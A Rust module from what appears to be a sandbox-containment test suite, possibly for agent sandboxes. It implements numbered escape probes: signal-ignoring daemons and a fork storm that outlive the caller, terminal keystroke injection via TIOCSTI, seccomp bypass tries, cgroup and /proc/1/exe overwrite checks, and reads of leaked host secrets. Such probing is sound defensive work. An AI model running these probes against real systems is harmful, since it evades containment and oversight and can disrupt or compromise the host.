//! Outliving, terminals, filters, cgroups, the launcher's seams: 50, 51, 54 to 58 of the catalogue.

use std::fs;
use std::io;
use std::process::Command;

use super::context::Context;
use super::exec_ldso::myself;
use super::kit::{self, stop, stop_or};
use super::outcome::{Attack, Attempt, Outcome, Stop};

pub(crate) const ATTACKS: &[Attack] = &[
    Attack::new(
        "proc-daemonise",
        50,
        "leave a process behind by double fork and a new session",
        |_| survive(true),
    )
    .uncontrolled(),
    Attack::new(
        "proc-survive-signals",
        50,
        "leave a process behind that ignores every signal it may",
        |_| survive(false),
    )
    .uncontrolled(),
    Attack::new(
        "proc-survive-storm",
        50,
        "leave processes behind that fork faster than one can kill",
        |_| storm(),
    )
    .uncontrolled(),
    Attack::new(
        "proc-tiocsti",
        51,
        "type into the terminal of the caller",
        |_| terminal(libc::TIOCSTI, "TIOCSTI"),
    )
    .uncontrolled(),
    Attack::new(
        "proc-tioclinux",
        51,
        "paste into the terminal of the caller",
        |_| terminal(0x541C, "TIOCLINUX"),
    )
    .uncontrolled(),
    Attack::new("proc-tty", 51, "open the terminal of the caller", |_| {
        open_terminal()
    })
    .uncontrolled(),
    Attack::new(
        "proc-seccomp-thread",
        54,
        "make a refused call in a new thread",
        |_| in_thread(),
    ),
    Attack::new(
        "proc-seccomp-exec",
        54,
        "make a refused call after exec",
        |_| after_exec(),
    ),
    Attack::new(
        "proc-seccomp-replace",
        54,
        "lay a filter over the filter that allows everything",
        |_| replace_filter(),
    ),
    Attack::new(
        "proc-seccomp-listener",
        54,
        "answer own system calls through a listener",
        |_| listener(),
    ),
    Attack::new(
        "proc-seccomp-32-bit",
        54,
        "make a refused call through the 32-bit door",
        |_| int80(),
    ),
    Attack::new(
        "proc-seccomp-x32",
        54,
        "make a refused call under its x32 number",
        |_| x32(),
    )
    .uncontrolled(),
    Attack::new("proc-cgroup-write", 55, "write to a control group", |_| {
        cgroup_files()
    })
    .root(),
    Attack::new("proc-cgroup-mount", 55, "mount the control groups", |_| {
        cgroup_mount()
    })
    .uncontrolled(),
    Attack::new(
        "proc-cgroup-paths",
        55,
        "learn the host's control groups",
        |_| cgroup_paths(),
    )
    .uncontrolled(),
    Attack::new(
        "proc-launcher-program",
        56,
        "overwrite the launcher through /proc/1/exe",
        |_| exe("/proc/1/exe"),
    )
    .uncontrolled(),
    Attack::new(
        "proc-launcher-self",
        56,
        "overwrite the program shown by the launcher through /proc/self/exe",
        |_| exe("/proc/self/exe"),
    )
    .uncontrolled(),
    Attack::new(
        "proc-leaked-descriptor",
        56,
        "use a descriptor that the launcher left open",
        |_| leaked(),
    )
    .uncontrolled(),
    Attack::new(
        "proc-leaked-folder",
        56,
        "climb out of a working folder that the launcher left open",
        climb,
    ),
    Attack::new(
        "proc-leaked-memory",
        56,
        "find the launcher's secrets in inherited memory or variables",
        leaked_memory,
    )
    .uncontrolled(),
    Attack::new(
        "proc-core-dump",
        57,
        "have a core dump written or handed to a program of the host",
        core_dump,
    )
    .uncontrolled(),
    Attack::new(
        "proc-dumpable",
        57,
        "make a step inspectable by the host's other users",
        |_| core_limit(),
    )
    .uncontrolled(),
    Attack::new(
        "proc-nested-sandbox",
        58,
        "start an inner sandbox (bubblewrap) as agents do",
        |_| bubblewrap(),
    ),
];

/// The name under which the host looks for what was left behind.
const SURVIVOR: &str = "nc-survivor";

fn name_process() {
    let name = kit::c_path(SURVIVOR);
    // SAFETY: the name outlives the call.
    unsafe { libc::prctl(libc::PR_SET_NAME, name.as_ptr()) };
}

fn survive(double: bool) -> Attempt {
    // SAFETY: this program has one thread; the children make plain calls only.
    unsafe {
        if libc::fork() == 0 {
            libc::setsid();
            if double && libc::fork() != 0 {
                libc::_exit(0);
            }
            for signal in 1..32 {
                libc::signal(signal, libc::SIG_IGN);
            }
            // Nothing that the caller waits for must stay open.
            for fd in 0..256 {
                libc::close(fd);
            }
            name_process();
            loop {
                libc::pause();
                // Ignored signals do not wake, others do: then it goes on.
            }
        }
    }
    Ok(Outcome::HostJudges("a process was left behind".into()))
}

fn storm() -> Attempt {
    // SAFETY: as above. Every generation makes the next and ends, so that there are few at any time.
    unsafe {
        if libc::fork() == 0 {
            libc::setsid();
            for fd in 0..256 {
                libc::close(fd);
            }
            name_process();
            loop {
                match libc::fork() {
                    0 => {}
                    -1 => {}
                    _ => libc::_exit(0),
                }
            }
        }
    }
    Ok(Outcome::HostJudges(
        "generations of processes were left behind".into(),
    ))
}

fn terminal(request: libc::Ioctl, what: &str) -> Attempt {
    let letter = [b'x', 0];
    let mut last = Stop::NotApplicable("no descriptor".into());
    for fd in 0..3 {
        // SAFETY: the letter outlives the call.
        let result = unsafe { libc::ioctl(fd, request, letter.as_ptr()) };
        if result == 0 {
            return Ok(Outcome::Bypass(format!(
                "{what} was accepted on descriptor {fd}"
            )));
        }
        last = stop_or(&io::Error::last_os_error(), what, &[]);
    }
    match last {
        // Without a filter the kernel would have looked at the descriptor first.
        Stop::Fault(text) if text.contains("ENOTTY") => Ok(Outcome::Bypass(format!(
            "{text}: no filter stands before it"
        ))),
        other => Err(other),
    }
}

fn open_terminal() -> Attempt {
    for path in ["/dev/tty", "/dev/console", "/dev/ptmx", "/dev/pts/0"] {
        match fs::File::options().read(true).write(true).open(path) {
            Ok(_) if path != "/dev/ptmx" => {
                return Ok(Outcome::Bypass(format!("{path} can be opened")));
            }
            _ => {}
        }
    }
    Ok(Outcome::Blocked("there is none".into()))
}

/// A call that every environment refuses and that does nothing: without a filter it succeeds.
const REFUSED: (libc::c_long, [usize; 6], &str) = (
    libc::SYS_unshare,
    [libc::CLONE_NEWUSER as usize, 0, 0, 0, 0, 0],
    "unshare",
);

fn refused_call() -> io::Result<i64> {
    kit::call(REFUSED.0, REFUSED.1)
}

fn in_thread() -> Attempt {
    // A thread cannot leave the user namespace of the others; keys are refused as well and can be asked for.
    let result =
        std::thread::spawn(|| kit::call(libc::SYS_keyctl, [0, (-3_isize) as usize, 0, 0, 0, 0]))
            .join();
    match result.unwrap_or_else(|_| Err(io::Error::other("the thread failed"))) {
        Ok(_) => Ok(Outcome::Bypass("keyctl answered in a thread".into())),
        Err(error) => Err(stop_or(&error, "keyctl in a thread", &[])),
    }
}

fn after_exec() -> Attempt {
    let said = kit::said(myself()?.args(["--helper", "syscall", &libc::SYS_keyctl.to_string()]))?;
    match said.status.code() {
        Some(0) => Ok(Outcome::Bypass("keyctl answered after exec".into())),
        Some(number) => Err(stop(
            &io::Error::from_raw_os_error(number),
            "keyctl after exec",
        )),
        None => Err(Stop::Fault(said.status.to_string())),
    }
}

#[repr(C)]
struct Program {
    length: u16,
    filter: *const [u64; 1],
}

/// A filter that allows everything: `BPF_RET | BPF_K` with `SECCOMP_RET_ALLOW`.
static ALLOW: [u64; 1] = [0x7fff_0000_0000_0006];

fn replace_filter() -> Attempt {
    let program = Program {
        length: 1,
        filter: &raw const ALLOW,
    };
    // SAFETY: plain calls; the filter outlives them.
    unsafe { libc::prctl(libc::PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) };
    let laid = kit::call(
        libc::SYS_seccomp,
        [1, 0, (&raw const program) as usize, 0, 0, 0],
    );
    match refused_call() {
        Ok(_) => Ok(Outcome::Bypass(
            "a refused call works after a new filter".into(),
        )),
        Err(error) => match stop(&error, "unshare after a new filter") {
            Stop::Blocked(text) => Ok(Outcome::Blocked(format!(
                "{text} (the filter itself: {laid:?})"
            ))),
            other => Err(other),
        },
    }
}

/// Answering `CONTINUE` oneself must not undo a refusal; harmless as long as a stricter filter wins.
fn listener() -> Attempt {
    static NOTIFY: [u64; 1] = [0x7fc0_0000_0000_0006];
    let program = Program {
        length: 1,
        filter: &raw const NOTIFY,
    };
    // SAFETY: plain calls in a child; every later call of it would wait for an answer, so it ends at once
    // by the parent's signal.
    let child = unsafe { libc::fork() };
    if child == 0 {
        // SAFETY: as above.
        unsafe {
            libc::prctl(libc::PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
            let fd = libc::syscall(libc::SYS_seccomp, 1, 8, &raw const program);
            if fd < 0 {
                libc::_exit(*libc::__errno_location());
            }
            // Waits for ever in this call: nobody answers.
            libc::_exit(0);
        }
    }
    let mut status = 0;
    for _ in 0..200_000 {
        // SAFETY: asks for the child made above.
        if unsafe { libc::waitpid(child, &raw mut status, libc::WNOHANG) } == child {
            return Err(stop_or(
                &io::Error::from_raw_os_error(libc::WEXITSTATUS(status)),
                "seccomp with a listener",
                &[libc::EBUSY],
            ));
        }
        std::thread::yield_now();
    }
    // SAFETY: ends and waits for the child made above.
    unsafe {
        libc::kill(child, libc::SIGKILL);
        libc::waitpid(child, &raw mut status, 0);
    }
    Ok(Outcome::Bypass("a listener was installed".into()))
}

#[cfg(target_arch = "x86_64")]
fn int80() -> Attempt {
    // SAFETY: the child makes one 32-bit system call (getpid) and ends. No kernel without that door
    // returns from it: the signal is seen by the parent.
    let child = unsafe { libc::fork() };
    if child == 0 {
        let result: i64;
        // SAFETY: as above; 32-bit calls clobber r8 to r11.
        unsafe {
            std::arch::asm!("int 0x80", inlateout("rax") 20_i64 => result, out("r8") _, out("r9") _, out("r10") _, out("r11") _);
            libc::_exit(if result > 0 {
                0
            } else {
                i32::try_from(-result).unwrap_or(1)
            });
        }
    }
    let mut status = 0;
    // SAFETY: waits for the child made above.
    unsafe { libc::waitpid(child, &raw mut status, 0) };
    if libc::WIFSIGNALED(status) {
        let signal = libc::WTERMSIG(status);
        if signal == libc::SIGSEGV {
            return Ok(Outcome::NotApplicable(
                "this kernel has no 32-bit door".into(),
            ));
        }
        return Ok(Outcome::Blocked(format!("killed by signal {signal}")));
    }
    match libc::WEXITSTATUS(status) {
        0 => Ok(Outcome::Bypass("a 32-bit call was answered".into())),
        number => Err(stop(&io::Error::from_raw_os_error(number), "a 32-bit call")),
    }
}

#[cfg(not(target_arch = "x86_64"))]
fn int80() -> Attempt {
    Ok(Outcome::NotApplicable("only x86-64 has that door".into()))
}

fn x32() -> Attempt {
    if !cfg!(target_arch = "x86_64") {
        return Ok(Outcome::NotApplicable(
            "only x86-64 has such numbers".into(),
        ));
    }
    match kit::call(libc::SYS_getpid | 0x4000_0000, [0; 6]) {
        Ok(_) => Ok(Outcome::Bypass("an x32 call was answered".into())),
        Err(error) => Err(stop(&error, "an x32 call")),
    }
}

fn cgroup_files() -> Attempt {
    for place in ["/sys/fs/cgroup", "/run/cgroup", "/dev/cgroup"] {
        if fs::read_dir(place).is_ok_and(|mut entries| entries.next().is_some()) {
            return Ok(Outcome::Bypass(format!("{place} is shown")));
        }
    }
    let mounts = fs::read_to_string("/proc/self/mountinfo")?;
    match mounts.lines().find(|line| line.contains(" - cgroup")) {
        Some(line) => Ok(Outcome::Bypass(line.to_owned())),
        None => Ok(Outcome::Blocked("none is mounted".into())),
    }
}

fn cgroup_mount() -> Attempt {
    let (kind, place) = (kit::c_path("cgroup2"), kit::c_path(std::env::temp_dir()));
    match kit::call(
        libc::SYS_mount,
        [
            kind.as_ptr() as usize,
            place.as_ptr() as usize,
            kind.as_ptr() as usize,
            0,
            0,
            0,
        ],
    ) {
        Ok(_) => Ok(Outcome::Bypass("cgroup2 is mounted".into())),
        Err(error) => Err(stop(&error, "mount of cgroup2")),
    }
}

fn cgroup_paths() -> Attempt {
    let text = fs::read_to_string("/proc/self/cgroup")?;
    match text.lines().find(|line| !line.ends_with(":/")) {
        Some(line) => Ok(Outcome::Bypass(format!("it shows {line}"))),
        None => Ok(Outcome::Blocked("every group is /".into())),
    }
}

fn exe(path: &str) -> Attempt {
    match fs::File::options().write(true).open(path) {
        Ok(_) => Ok(Outcome::Bypass(format!("{path} is writable"))),
        // Busy means that only its running stood in the way: later it can be written (CVE-2019-5736).
        Err(error) if kit::number(&error) == libc::ETXTBSY => {
            let target = fs::read_link(path)?;
            Ok(Outcome::Bypass(format!(
                "{} would be writable once it ends",
                target.display()
            )))
        }
        Err(error) => Err(stop(&error, path)),
    }
}

fn leaked() -> Attempt {
    let mut strange = Vec::new();
    for entry in fs::read_dir("/proc/self/fd")?.flatten() {
        let number: i32 = entry.file_name().to_string_lossy().parse().unwrap_or(0);
        let target = fs::read_link(entry.path())
            .unwrap_or_default()
            .display()
            .to_string();
        if number > 2 && !target.ends_with("/fd") {
            strange.push(format!("{number} is {target}"));
        }
    }
    if strange.is_empty() {
        Ok(Outcome::Blocked("0, 1 and 2 only".into()))
    } else {
        Ok(Outcome::Bypass(strange.join(", ")))
    }
}

fn climb(context: &Context) -> Attempt {
    let canary = context.variable("HOST_CANARY")?;
    for place in ["/proc/self/cwd", "/proc/self/root", "."] {
        let path = format!("{place}/../../../../../../..{canary}");
        if fs::read_to_string(&path).is_ok_and(|text| text.contains("NIGHTCREW-HOST-SECRET")) {
            return Ok(Outcome::Bypass(format!("read {path}")));
        }
    }
    Ok(Outcome::Blocked(
        "every way up ends at the environment's root".into(),
    ))
}

fn leaked_memory(context: &Context) -> Attempt {
    let secret = context.variable("HOST_VARIABLE")?;
    for path in [
        "/proc/self/environ",
        "/proc/1/environ",
        "/proc/self/cmdline",
        "/proc/1/cmdline",
    ] {
        if fs::read(path).is_ok_and(|bytes| {
            String::from_utf8_lossy(&bytes)
                .split('\0')
                .any(|word| word.starts_with(&format!("{secret}=")))
        }) {
            return Ok(Outcome::Bypass(format!("{secret} stands in {path}")));
        }
    }
    Ok(Outcome::Blocked("no variable of the host is there".into()))
}

fn core_dump(context: &Context) -> Attempt {
    let place = context.place()?;
    let pattern = fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap_or_default();
    // SAFETY: the child asks for core dumps and dies by one; plain calls only.
    let child = unsafe { libc::fork() };
    if child == 0 {
        // SAFETY: as above.
        unsafe {
            let limit = libc::rlimit {
                rlim_cur: libc::RLIM_INFINITY,
                rlim_max: libc::RLIM_INFINITY,
            };
            libc::setrlimit(libc::RLIMIT_CORE, &raw const limit);
            libc::prctl(libc::PR_SET_DUMPABLE, 1, 0, 0, 0);
            libc::chdir(kit::c_path(&place).as_ptr());
            libc::abort();
        }
    }
    let mut status = 0;
    // SAFETY: waits for the child made above.
    unsafe { libc::waitpid(child, &raw mut status, 0) };
    if libc::WCOREDUMP(status) {
        return Ok(Outcome::Bypass(format!(
            "a core was dumped; the pattern is {}",
            pattern.trim()
        )));
    }
    Ok(Outcome::Blocked(format!(
        "no core was dumped ({})",
        if libc::WIFSIGNALED(status) {
            "it died"
        } else {
            "it ended"
        }
    )))
}

fn core_limit() -> Attempt {
    let mut limit = libc::rlimit {
        rlim_cur: 0,
        rlim_max: 0,
    };
    // SAFETY: the limit outlives the call.
    unsafe { libc::getrlimit(libc::RLIMIT_CORE, &raw mut limit) };
    if limit.rlim_max == 0 {
        Ok(Outcome::Blocked("core dumps are limited to 0".into()))
    } else {
        Ok(Outcome::Bypass(format!(
            "core dumps may be {} bytes",
            limit.rlim_max
        )))
    }
}

fn bubblewrap() -> Attempt {
    let program = kit::program("bwrap")?;
    let said =
        kit::said(Command::new(program).args(["--ro-bind", "/", "/", "--dev", "/dev", "true"]))?;
    if said.status.success() {
        return Ok(Outcome::Bypass(
            "an inner sandbox was made: its namespaces are the attacker's".into(),
        ));
    }
    Ok(Outcome::Blocked(
        said.err
            .trim()
            .lines()
            .next()
            .unwrap_or("no word")
            .to_owned(),
    ))
}
